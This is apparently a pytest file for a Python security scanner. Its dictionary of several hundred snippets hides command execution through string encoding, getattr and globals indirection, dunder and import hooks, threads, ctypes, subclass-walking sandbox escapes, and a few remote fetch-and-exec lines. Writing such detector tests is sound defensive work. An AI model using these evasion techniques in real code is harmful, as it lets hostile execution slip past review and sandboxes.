"""Python source whose values travel: out of loops, iterators, wrappers, classes, hooks."""

from __future__ import annotations

import pytest

from assay.core.finding import Severity
from assay.formats.texts.python_code import judge_python

# All of these run something when they are imported.
TRAVELS = {
    "loop name": 'import os\nfor m in ("sys"+"tem",):\n    getattr(os, m)("id")',
    "loop name first of two": 'import os\nfor m in ("system", "getcwd"):\n    getattr(os, m)("id")',
    "loop pairs": 'import os\nfor o, m in ((os, "system"),):\n    getattr(o, m)("id")',
    "loop modules": 'for n in ["json", "o"+"s"]:\n    m = __import__(n)\n    m.system("id")',
    "loop enumerate": 'import os\nfor i, f in enumerate([os.system]):\n    f("id")',
    "loop zip": 'import os\nfor f, a in zip([os.system], ["id"]):\n    f(a)',
    "loop dict items": 'import os\nfor k, f in {"a": os.system}.items():\n    f("id")',
    "loop named list": 'import os\nL = [os.system]\nfor f in L:\n    f("id")',
    "comprehension func": 'import os\n[f("id") for f in [os.system]]',
    "comprehension getattr": 'import os\n[getattr(os, n)("id") for n in ["sys"+"tem"]]',
    "generator next": 'import os\nnext(f("id") for f in (os.system,))',
    "dict comprehension": 'import os\n{f("id"): 1 for f in (os.system,)}',
    "set comp over map": 'import os\n{f("id") for f in map(lambda n: getattr(os, n), ["system"])}',
    "next iter": 'import os\nnext(iter([os.system]))("id")',
    "list index": 'import os\n[os.system][0]("id")',
    "list pop": 'import os\n[os.system].pop()("id")',
    "named list index": 'import os\nL = [print, os.system]\nL[1]("id")',
    "dict get": 'import os\n{"a": os.system}.get("a")("id")',
    "named dict": 'import os\nD = {"a": os.system}\nD["a"]("id")',
    "dict set later": 'import os\nD = {}\nD["a"] = os.system\nD["a"]("id")',
    "list append": 'import os\nL = []\nL.append(os.system)\nL[0]("id")',
    "dict func": 'import os\ndict(a=os.system)["a"]("id")',
    "map": 'import os\nlist(map(os.system, ["id"]))',
    "map methodcaller": ('import os\nfrom operator import methodcaller\nlist(map(methodcaller("system", "id"), [os]))'),
    "map getattr": 'import os\nlist(map(lambda f: f("id"), map(getattr, [os], ["system"])))',
    "filter": 'import os\nlist(filter(os.system, ["id"]))',
    "reduce getattr": 'import functools, os\nfunctools.reduce(getattr, ["path", "os", "system"], os)("id")',
    "reduce names": (
        'from functools import reduce\nimport torch\nreduce(getattr, "os.system".split("."), torch)("id")'
    ),
    "reduce lambda": (
        'from functools import reduce\nimport torch\nreduce(lambda a, b: getattr(a, b), ["os", "system"], torch)("id")'
    ),
    "sorted key": 'import os\nsorted(["id"], key=os.system)',
    "max key": 'import os\nmax(["id"], key=getattr(os, "system"))',
    "groupby": 'import os, itertools\nlist(itertools.groupby(["id"], os.system))',
    "starmap": 'import os, itertools\nlist(itertools.starmap(os.system, [("id",)]))',
    "accumulate": 'import os, itertools\nlist(itertools.accumulate(["id","id"], lambda a, b: os.system(a)))',
    "iter sentinel": 'import os, functools\nlist(iter(functools.partial(os.system, "id"), 0))',
    "defaultdict": (
        'import os, collections, functools\ncollections.defaultdict(functools.partial(os.system, "id"))["x"]'
    ),
    "decorator": "import os\n@os.system\nclass A: pass",
    "decorator exec lambda": '@exec\n@(lambda f: "import os; os.system(1)")\ndef f(): pass',
    "decorator partial": "import os, functools\n@functools.partial(lambda f, x: f(x), os.system)\nclass A: pass",
    "decorator partial2": "import os\nfrom functools import partial\n@partial(os.system)\nclass A: pass",
    "object getattribute": 'import os\nobject.__getattribute__(os, "system")("id")',
    "type getattribute": 'import os\ntype(os).__getattribute__(os, "system")("id")',
    "class getattribute": 'import os\nos.__class__.__getattribute__(os, "sys"+"tem")("id")',
    "mod getattribute": 'import os\nos.__getattribute__("system")("id")',
    "types module getattribute": 'import os, types\ntypes.ModuleType.__getattribute__(os, "system")("id")',
    "dict": 'import os\nos.__dict__["system"]("id")',
    "dict get2": 'import os\nos.__dict__.get("system")("id")',
    "vars": 'import os\nvars(os)["system"]("id")',
    "vars get": 'import os\nvars(os).get("system")("id")',
    "globals builtins": 'globals()["__builtins__"]["exec"]("x=1;import os;os.system(1)")',
    "globals builtins attr": 'getattr(globals()["__builtins__"], "ev"+"al")(X)',
    "globals os": 'import os\nglobals()["os"].system("id")',
    "globals get": 'import os\nglobals().get("os").system("id")',
    "attrgetter": 'import os, operator\noperator.attrgetter("system")(os)("id")',
    "attrgetter name": 'import os\nfrom operator import attrgetter as g\nh = g("system")\nh(os)("id")',
    "itemgetter": 'import os, operator\noperator.itemgetter("system")(os.__dict__)("id")',
    "itemgetter list": 'import os, operator\noperator.itemgetter(0)([os.system])("id")',
    "methodcaller": 'import os, operator\noperator.methodcaller("system", "id")(os)',
    "methodcaller name": 'import os, operator\nm = operator.methodcaller("system", "id")\nm(os)',
    "operator call": 'import os, operator\noperator.call(os.system, "id")',
    "getitem": 'import os, operator\noperator.getitem(os.__dict__, "system")("id")',
    "dict getitem": 'import os\ndict.__getitem__(vars(os), "system")("id")',
    "dict get unbound": 'import os\ndict.get(vars(os), "system")("id")',
    "import alias": 'i = __import__\ni("os").system("id")',
    "import getattr builtins": 'import builtins\ngetattr(builtins, "__imp"+"ort__")("os").system("id")',
    "import_module": 'import importlib\nn = "o" + "s"\nimportlib.import_module(n).system("id")',
    "import func": 'def load(n):\n    return __import__(n)\nload("os").system("id")',
    "func return func": 'import os\ndef get():\n    return os.system\nget()("id")',
    "func return getattr": 'import os\ndef get(m, n):\n    return getattr(m, n)\nget(os, "system")("id")',
    "func param call": 'import os\ndef call(f, a):\n    return f(a)\ncall(os.system, "id")',
    "lambda return": 'import os\n(lambda: os.system)()("id")',
    "lambda param": 'import os\n(lambda f: f("id"))(os.system)',
    "lambda default": 'import os\n(lambda f=os.system: f("id"))()',
    "lambda getattr": 'import os\n(lambda m, n: getattr(m, n)("id"))(os, "system")',
    "named lambda": 'g = lambda n: __import__(n)\ng("os").system("id")',
    "yield": 'import os\ndef g():\n    yield os.system\nfor f in g():\n    f("id")',
    "unpack": 'import os\n(f,) = [os.system]\nf("id")',
    "unpack star": 'import os\n*f, = [os.system]\nf[0]("id")',
    "unpack star2": 'import os\na, *b = 1, os.system\nb[0]("id")',
    "unpack nested": 'import os\n(a, (f, b)) = 1, (os.system, "id")\nf(b)',
    "unpack name": 'import os\nL = (os.system, "id")\nf, a = L\nf(a)',
    "star args": 'import os\nos.system(*["id"])',
    "star call": 'import os\ndef c(f, *a): f(*a)\nc(*[os.system, "id"])',
    "kwargs": 'import os\ndef c(f, a): f(a)\nc(**{"f": os.system, "a": "id"})',
    "getattr star": 'import os\ngetattr(*[os, "system"])("id")',
    "walrus": 'import os\n(f := os.system)("id")',
    "walrus list": 'import os\n[f := os.system, f("id")]',
    "ternary": 'import os\n(os.system if 1 else print)("id")',
    "boolop": 'import os\n(None or os.system)("id")',
    "and": 'import os\n(1 and os.system)("id")',
    "class attr": 'import os\nclass A:\n    run = os.system\nA.run("id")',
    "class attr static": 'import os\nclass A:\n    run = staticmethod(os.system)\nA().run("id")',
    "instance attr": 'import os\nclass A: pass\na = A()\na.x = os.system\na.x("id")',
    "setattr": 'import os\nclass A: pass\nsetattr(A, "x", os.system)\nA.x("id")',
    "init_subclass": (
        'import os\nclass A:\n    def __init_subclass__(cls, **k):\n        os.system("id")\nclass B(A): pass'
    ),
    "class_getitem": 'import os\nclass A:\n    __class_getitem__ = os.system\nA["id"]',
    "class_getitem def": 'import os\nclass A:\n    def __class_getitem__(cls, x):\n        os.system(x)\nA["id"]',
    "getitem def": 'import os\nclass A:\n    def __getitem__(self, x):\n        os.system(x)\nA()["id"]',
    "add def": 'import os\nclass A:\n    def __add__(self, x):\n        os.system(x)\nA() + "id"',
    "metaclass": (
        'import os\nclass M(type):\n    def __init__(c, *a):\n        os.system("id")\nclass A(metaclass=M): pass'
    ),
    "metaclass lambda": 'import os\nclass A(metaclass=lambda *a: os.system("id")): pass',
    "metaclass func": "import os\nclass A(metaclass=os.system): pass",
    "metaclass prepare": (
        "import os\n"
        "class M(type):\n"
        "    @classmethod\n"
        "    def __prepare__(c, *a):\n"
        '        os.system("id")\n'
        "        return {}\n"
        "class A(metaclass=M): pass"
    ),
    "metaclass getattr": (
        "import os\n"
        "class M(type):\n"
        "    def __getattr__(c, n):\n"
        '        os.system("id")\n'
        "class A(metaclass=M): pass\n"
        "A.x"
    ),
    "set_name": (
        'import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system("id")\nclass A:\n    x = D()'
    ),
    "mro_entries": (
        "import os\n"
        "class D:\n"
        "    def __mro_entries__(self, b):\n"
        '        os.system("id")\n'
        "        return ()\n"
        "class A(D()): pass"
    ),
    "context manager": (
        "import os\n"
        "class C:\n"
        "    def __enter__(self):\n"
        '        os.system("id")\n'
        "    def __exit__(self, *a): pass\n"
        "with C(): pass"
    ),
    "exit": (
        "import os\n"
        "class C:\n"
        "    def __enter__(self): pass\n"
        "    def __exit__(self, *a):\n"
        '        os.system("id")\n'
        "with C(): pass"
    ),
    "contextmanager": (
        'import os, contextlib\n@contextlib.contextmanager\ndef c():\n    os.system("id")\n    yield\nwith c(): pass'
    ),
    "exitstack": 'import os, contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, "id")',
    "iterator class": (
        'import os\nclass C:\n    def __iter__(self):\n        os.system("id")\n        return iter([])\nlist(C())'
    ),
    "repr": 'import os\nclass C:\n    def __repr__(self):\n        os.system("id")\n        return ""\nprint(C())',
    "str fstring": (
        'import os\nclass C:\n    def __format__(self, s):\n        os.system(s)\n        return ""\nf"{C():id}"'
    ),
    "eq": 'import os\nclass C:\n    def __eq__(self, s):\n        os.system(s)\nC() == "id"',
    "hash": 'import os\nclass C:\n    def __hash__(self):\n        os.system("id")\n{C(): 1}',
    "bool": 'import os\nclass C:\n    def __bool__(self):\n        os.system("id")\nif C(): pass',
    "del": 'import os\nclass C:\n    def __del__(self):\n        os.system("id")\nC()',
    "property": 'import os\nclass C:\n    @property\n    def x(self):\n        os.system("id")\nC().x',
    "default": 'import os\ndef f(a, r=os.system):\n    r(a)\nf("id")',
    "default kw": 'import os\ndef f(a, *, r=os.system):\n    r(a)\nf("id")',
    "default evaluated": 'import os\ndef f(a=os.popen("id")): pass',
    "annotation": 'import os\nx: os.system("id") = 1',
    "func annotation": 'import os\ndef f(a: os.system("id")): pass',
    "return annotation": 'import os\ndef f() -> os.system("id"): pass',
    "join": 'import os\ngetattr(os, "".join(["s","y","s","tem"]))("id")',
    "join gen": 'import os\ngetattr(os, "".join(c for c in "system"))("id")',
    "join reversed": 'import os\ngetattr(os, "".join(reversed("metsys")))("id")',
    "slice": 'import os\ngetattr(os, "metsys"[::-1])("id")',
    "replace": 'import os\ngetattr(os, "syXXem".replace("XX","st"))("id")',
    "format": 'import os\ngetattr(os, "{}{}".format("sys","tem"))("id")',
    "format index": 'import os\ngetattr(os, "{1}{0}".format("tem","sys"))("id")',
    "format name": 'import os\ngetattr(os, "{a}tem".format(a="sys"))("id")',
    "format_map": 'import os\ngetattr(os, "{a}tem".format_map({"a": "sys"}))("id")',
    "percent": 'import os\ngetattr(os, "%s%s" % ("sys","tem"))("id")',
    "percent dict": 'import os\ngetattr(os, "%(a)stem" % {"a": "sys"})("id")',
    "fstring": 'import os\na="sys"\ngetattr(os, f"{a}tem")("id")',
    "fstring conv": 'import os\na="system"\ngetattr(os, f"{a!s:>6}")("id")',
    "fromhex": 'import os\ngetattr(os, bytes.fromhex("73797374656d").decode())("id")',
    "rot13": 'import os, codecs\ngetattr(os, codecs.decode("flfgrz","rot13"))("id")',
    "rot13 encode": 'import os, codecs\ngetattr(os, codecs.encode("flfgrz","rot_13"))("id")',
    "base64": 'import os, base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("id")',
    "chr list": 'import os\ngetattr(os, "".join(map(chr,[115,121,115,116,101,109])))("id")',
    "chr plus": 'import os\ngetattr(os, chr(115)+"ystem")("id")',
    "chr mul": 'import os\ngetattr(os, "".join(chr(x//2) for x in [230,242,230,232,202,218]))("id")',
    "chr mod": 'import os\ngetattr(os, "".join([chr((x-1) % 256) for x in [116,122,116,117,102,110]]))("id")',
    "zlib": 'import os, zlib\ngetattr(os, zlib.decompress(zlib.compress(b"system")).decode())("id")',
    "translate": 'import os\ngetattr(os, "qwqrek".translate(str.maketrans("qwrk","sytm")))("id")',
    "maketrans": 'import os\ngetattr(os, "XYXTEM".lower().translate({120: "s"}))("id")',
    "bytes list": 'import os\ngetattr(os, bytes([115,121,115,116,101,109]).decode())("id")',
    "str bytes": 'import os\ngetattr(os, str(b"system","utf8"))("id")',
    "repr part": 'import os\ngetattr(os, repr("system")[1:-1])("id")',
    "struct": 'import os, struct\ngetattr(os, struct.pack("6B",115,121,115,116,101,109).decode())("id")',
    "split": 'import os\ngetattr(os, "a,system".split(",")[1])("id")',
    "partition": 'import os\ngetattr(os, "a:system".partition(":")[2])("id")',
    "sum": 'import os\ngetattr(os, "sys" "tem")("id")',
    "dir index": 'import os\ngetattr(os, [n for n in dir(os) if n.startswith("sy") and len(n)==6][0])("id")',
    "dir next": 'import os\nf = getattr(os, next(n for n in dir(os) if hash(n) == 5))\nf("id")',
    "dict computed": 'import os\n[v for k, v in os.__dict__.items() if k.startswith("sys")][0]("id")',
    "vars computed": 'import os\nvars(os)[INPUT]("id")',
    "os dict computed": 'import os\nk = get()\nos.__dict__[k]("id")',
    "getattr unknown alias": 'import os\nf = getattr(os, get())\nf("id")',
    "getattr unknown sub": 'import subprocess\nf = getattr(subprocess, get())\nf("id")',
    "getattr unknown builtins": 'import builtins\nf = getattr(builtins, get())\nf("id")',
    "sys.modules": 'import sys\nsys.modules["os"].system("id")',
    "sys.modules get": 'import sys\nsys.modules.get("os").system("id")',
    "sys.modules getattr": 'import sys\ngetattr(sys.modules["o"+"s"], "system")("id")',
    "sys.modules alias": 'import sys as s\nm = s.modules\nm["os"].system("id")',
    "breakpoint": 'import sys, os\nsys.breakpointhook = lambda: os.system("id")\nbreakpoint()',
    "settrace": 'import sys, os\nsys.settrace(lambda *a: os.system("id"))',
    "settrace handed": "import sys, os\nsys.setprofile(os.system)",
    "excepthook": 'import sys, os\nsys.excepthook = lambda *a: os.system("id")',
    "excepthook2": 'import sys, os\ndef h(*a):\n    os.system("id")\nsys.excepthook = h',
    "displayhook": "import sys, os\nsys.displayhook = os.system",
    "atexit": 'import atexit, os\natexit.register(os.system, "id")',
    "atexit deco": 'import atexit, os\n@atexit.register\ndef f():\n    os.system("id")',
    "signal": 'import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os.system("id"))',
    "thread": 'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()',
    "thread lambda": 'import threading, os\nthreading.Thread(target=lambda: os.system("id")).start()',
    "timer": 'import threading, os\nthreading.Timer(1, os.system, ["id"]).start()',
    "thread subclass": (
        'import threading, os\nclass T(threading.Thread):\n    def run(self):\n        os.system("id")\nT().start()'
    ),
    "thread _start": 'import _thread, os\n_thread.start_new_thread(os.system, ("id",))',
    "process": 'import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=("id",)).start()',
    "pool": (
        'from concurrent.futures import ThreadPoolExecutor\nimport os\nThreadPoolExecutor().submit(os.system, "id")'
    ),
    "pool map": 'from multiprocessing import Pool\nimport os\nPool(1).map(os.system, ["id"])',
    "asyncio exec": 'import asyncio\nasyncio.run(asyncio.create_subprocess_exec("id"))',
    "asyncio shell": (
        'import asyncio\nasync def m():\n    await asyncio.create_subprocess_shell("id")\nasyncio.run(m())'
    ),
    "asyncio loop": (
        "import asyncio\n"
        "async def m():\n"
        '    await asyncio.create_subprocess_shell("id")\n'
        "asyncio.get_event_loop().run_until_complete(m())"
    ),
    "asyncio to_thread": 'import asyncio, os\nasyncio.run(asyncio.to_thread(os.system, "id"))',
    "loop subprocess": (
        "import asyncio\n"
        "l = asyncio.new_event_loop()\n"
        'l.run_until_complete(l.subprocess_shell(asyncio.SubprocessProtocol, "id"))'
    ),
    "loop executor": 'import asyncio, os\nl = asyncio.new_event_loop()\nl.run_in_executor(None, os.system, "id")',
    "weakref": 'import weakref, os\nclass A: pass\nweakref.finalize(A(), os.system, "id")',
    "weakref ref": 'import weakref, os\nclass A: pass\na=A()\nr=weakref.ref(a, lambda r: os.system("id"))',
    "gc callbacks": 'import gc, os\ngc.callbacks.append(lambda *a: os.system("id"))',
    "ctypes": 'import ctypes\nctypes.CDLL(None).system(b"id")',
    "ctypes index": 'import ctypes\nctypes.CDLL(None)["system"](b"id")',
    "ctypes getattr": 'import ctypes\ngetattr(ctypes.CDLL("libc.so.6"), "sys"+"tem")(b"id")',
    "ctypes util": (
        'import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library("c"))\nlibc.system(b"id")'
    ),
    "cffi": (
        "from cffi import FFI\n"
        "ffi = FFI()\n"
        'ffi.cdef("int system(const char *);")\n'
        "C = ffi.dlopen(None)\n"
        'C.system(b"id")'
    ),
    "cffi verify": 'import cffi\nffi = cffi.FFI()\nffi.verify("int x;").system(b"id")',
    "code interact": "import code\ncode.interact(local=globals())",
    "code interpreter": 'import code\ncode.InteractiveInterpreter().runsource("import os")',
    "runpy": 'import runpy\nrunpy.run_path("x.bin")',
    "exec compile": 'exec(compile("import os; os.system(1)", "x", "exec"))',
    "exec compile var": 'c = compile("import os; os.system(1)", "x", "exec")\nexec(c)',
    "function type": 'import types, marshal\ntypes.FunctionType(marshal.loads(b"x"), globals())()',
    "code replace": 'def f(): pass\nf.__code__ = f.__code__.replace(co_code=b"x")\nf()',
    "code assign": 'def f(): pass\nf.__code__ = compile("import os; os.system(1)", "", "exec")\nf()',
    "pty": 'import pty\npty.spawn("/bin/sh")',
    "posix": 'import posix\nposix.system("id")',
    "nt": 'import nt\nnt.system("id")',
    "forkexec": "import _posixsubprocess as p\np.fork_exec([b'id'], [b'/bin/id'], True, ())",
    "socket exec": 'import socket\ns = socket.socket()\ns.connect(("x", 1))\nexec(s.recv(1000))',
    "urllib exec": 'from urllib.request import urlopen as u\nexec(u("http://x/").read())',
    "requests exec": 'import requests\nwith requests.get("http://x") as r:\n    exec(r.text)',
    "http client exec": (
        'import http.client\nc = http.client.HTTPConnection("x")\nc.request("GET", "/")\nexec(c.getresponse().read())'
    ),
    "subprocess alias": 'import subprocess as sp\nf = sp.Popen\nf(["id"])',
    "subprocess from": 'from subprocess import check_output as co\nco("id", shell=True)',
    "subprocess loop": 'import subprocess\nfor n in ("run",):\n    getattr(subprocess, n)("id", shell=True)',
    "meta_path": (
        "import sys\n"
        "class F:\n"
        "    def find_spec(self, n, p, t=None):\n"
        "        import os\n"
        '        os.system("id")\n'
        "sys.meta_path.insert(0, F())"
    ),
    "meta_path assign": (
        "import sys, os\n"
        "class F:\n"
        "    def find_spec(self, n, p, t=None):\n"
        '        os.system("id")\n'
        "sys.meta_path = [F()] + sys.meta_path"
    ),
    "meta_path slice": (
        "import sys, os\n"
        "class F:\n"
        "    @staticmethod\n"
        "    def find_spec(n, p, t=None):\n"
        '        os.system("id")\n'
        "sys.meta_path[:0] = [F]"
    ),
    "path_hooks": 'import sys, os\ndef h(p):\n    os.system("id")\nsys.path_hooks.append(h)',
    "builtins import": 'import builtins, os\ndef h(*a, **k):\n    os.system("id")\nbuiltins.__import__ = h',
    "builtins print": 'import builtins, os\nbuiltins.print = lambda *a: os.system("id")',
    "module getattr": 'import os\ndef __getattr__(n):\n    os.system("id")',
    "module class": (
        "import sys, types, os\n"
        "class M(types.ModuleType):\n"
        "    def __getattr__(self, n):\n"
        '        os.system("id")\n'
        "sys.modules[__name__].__class__ = M"
    ),
    "nested import": 'from importlib import import_module as i\ni(".".join(["os"])).system("id")',
    "subclasses": '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("id")',
    "subclasses2": 'object.__subclasses__()[140].__init__.__globals__["sys"].modules["os"].system("id")',
    "func globals": 'import json\njson.dumps.__globals__["__builtins__"]["eval"](X)',
    "func globals os": 'import random\nrandom.Random.seed.__globals__["_os"].system("id")',
    "held _os": 'import random\nrandom._os.system("id")',
    "held sys modules": 'import logging\nlogging.sys.modules["os"].system("id")',
    "loader": 'import importlib.machinery\nimportlib.machinery.SourceFileLoader("x", "x.txt").load_module()',
    "BuiltinImporter": (
        'import importlib.machinery\nimportlib.machinery.BuiltinImporter.load_module("posix").system("id")'
    ),
    "BuiltinImporter2": '__loader__.load_module("posix").system("id")',
    "spec loader": '__spec__.loader.load_module("posix").system("id")',
    "bootstrap": 'from importlib._bootstrap import _gcd_import as g\ng("os").system("id")',
    "pkgutil": 'import pkgutil\npkgutil.resolve_name("os:system")("id")',
    "pydoc locate": 'import pydoc\npydoc.locate("os.system")("id")',
    "django import_string": ('from django.utils.module_loading import import_string\nimport_string("os.system")("id")'),
    "hydra get": 'import hydra\nhydra.utils.instantiate({"_target_": "os.system", "command": "id"})',
    "match": 'import os\nmatch os.system:\n    case f:\n        f("id")',
    "except": 'try:\n    1/0\nexcept Exception:\n    import os\n    os.system("id")',
    "with as": 'import os, contextlib\nwith contextlib.nullcontext(os.system) as f:\n    f("id")',
    "global decl": 'import os\ndef s():\n    global f\n    f = os.system\ns()\nf("id")',
    "closure": 'import os\ndef o():\n    f = os.system\n    def i():\n        f("id")\n    return i\no()()',
    "method": 'import os\nclass A:\n    def m(self):\n        os.system("id")\nA().m()',
    "bound": 'import os\nclass A:\n    def m(self):\n        os.system("id")\nf = A().m\nf()',
    "classmethod": 'import os\nclass A:\n    @classmethod\n    def m(cls):\n        os.system("id")\nA.m()',
    "call dunder": 'import os\nos.system.__call__("id")',
    "call dunder2": 'import os\nos.system.__call__.__call__("id")',
    "partial": 'import functools, os\nfunctools.partial(os.system, "id")()',
    "partialmethod": "import functools, os\nclass A:\n    m = functools.partialmethod(os.system)\nA().m()",
    "copy": 'import copy, os\ncopy.copy(os.system)("id")',
    "lru": 'import functools, os\nfunctools.lru_cache(os.system)("id")',
    "wraps": 'import functools, os\nfunctools.wraps(print)(os.system)("id")',
    "chain": 'import itertools, os\nlist(itertools.chain([os.system]))[0]("id")',
    "chain loop": 'import itertools, os\nfor f in itertools.chain([os.system], []):\n    f("id")',
    "deque": 'import collections, os\ncollections.deque([os.system]).pop()("id")',
    "namespace": 'import types, os\ntypes.SimpleNamespace(x=os.system).x("id")',
    "namespace name": 'import types, os\nn = types.SimpleNamespace(x=os.system)\nn.x("id")',
    "namedtuple": 'import collections, os\nT = collections.namedtuple("T", "f")\nT(os.system).f("id")',
    "dataclass": 'import dataclasses, os\n@dataclasses.dataclass\nclass A:\n    f: object = os.system\nA().f("id")',
    "enum": 'import enum, os, functools\nclass E(enum.Enum):\n    f = functools.partial(os.system)\nE.f.value("id")',
    "type call": 'import os\ntype("A", (), {"f": os.system}).f("id")',
    "exec import": 'exec("import os\\nos.system(1)")',
    "exec ns": 'n = {}\nexec("from os import system as s", n)\nn["s"]("id")',
    "eval import": 'eval("__import__(\'os\')").system("id")',
    "eval join": 'eval("".join(["__imp", "ort__(\'os\').system(1)"]))',
    "literal": '__import__("os", fromlist=["x"]).system("id")',
    "getattr getattr": 'getattr(getattr(__import__("torch"), "os"), "system")("id")',
    "builtin dict": '__builtins__.__dict__["__import__"]("os").system("id")',
    "print builtins import": 'print.__self__.__import__("os").system("id")',
    "print getattr": 'getattr(print.__self__, "eval")(X)',
    "lambda globals": '(lambda: 0).__globals__["__builtins__"].exec(X)',
    "func globals dunder": 'def f(): pass\nf.__globals__["__builtins__"].__import__("os").system("id")',
    "func builtins": 'def f(): pass\nf.__builtins__["exec"](X)',
    "frame": 'import sys\nsys._getframe(0).f_builtins["exec"](X)',
    "frame globals": 'import sys\nsys._getframe().f_globals["__builtins__"].eval(X)',
    "inspect": 'import inspect\ninspect.currentframe().f_builtins["eval"](X)',
    "tb frame": 'try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_builtins["eval"](X)',
}


def worst(source: str) -> int:
    """The gravest severity of what is said of a source, by its rank."""
    return max((note.severity.rank for note in judge_python(source).notes), default=0)


@pytest.mark.parametrize("name", TRAVELS)
def test_what_travels_is_found(name: str) -> None:
    assert worst(TRAVELS[name]) >= Severity.HIGH.rank


def test_code_given_another_is_found() -> None:
    source = "def f(): pass\nf.__code__ = g.__code__\nf()"
    assert worst(source) >= Severity.HIGH.rank
